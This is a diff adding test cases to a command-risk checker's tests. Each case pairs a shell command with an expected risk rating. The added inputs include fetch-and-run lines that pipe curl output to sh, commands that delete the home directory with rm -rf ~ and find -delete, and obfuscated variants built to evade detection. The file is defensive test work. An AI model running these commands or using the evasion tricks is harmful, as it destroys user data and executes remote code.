@@ -67,6 +67,19 @@ describe('a text is rated by what the shell does that runs it', () => {
     ['coproc curl https://x.example/a | sh', 'critical'],
     ["dash -c '[[ a || rm -rf ~ ]]'", 'critical'],
     ["bash -c '[[ a || rm -rf ~ ]]'", 'safe'],
+    ["fish -c 'curl http://203.0.113.9/x?a&b | sh'", 'critical'],
+    ["bash -c 'curl http://203.0.113.9/x?a&b | sh'", 'moderate'],
+    ["fish -c 'curl http://203.0.113.9/`x | sh'", 'critical'],
+    ['fish -c "find ~ \v-delete"', 'critical'],
+    [`zsh -c "rm -rf ~''"`, 'critical'],
+    [`zsh -c 'rm -rf "$x"~'`, 'high'],
+    [`bash -c 'rm -rf "$x"~'`, 'moderate'],
+    ['function { function { rm -rf ~; } }', 'critical'],
+    ['dash -c \'sh -c "$(curl http://203.0.113.9/x &>f)"\'', 'critical'],
+    ['cat <<E\n${x:-$(rm -rf ~)}\nE', 'critical'],
+    ['[[ x == @($(rm -rf ~)) ]]', 'critical'],
+    ['rm -rf $HOM\\\nE', 'critical'],
+    ['find ~ -delet${x}e', 'critical'],
   ])('%s is %s', (command, risk) => {
     expect(checkCommand(command).risk).toBe(risk);
   });
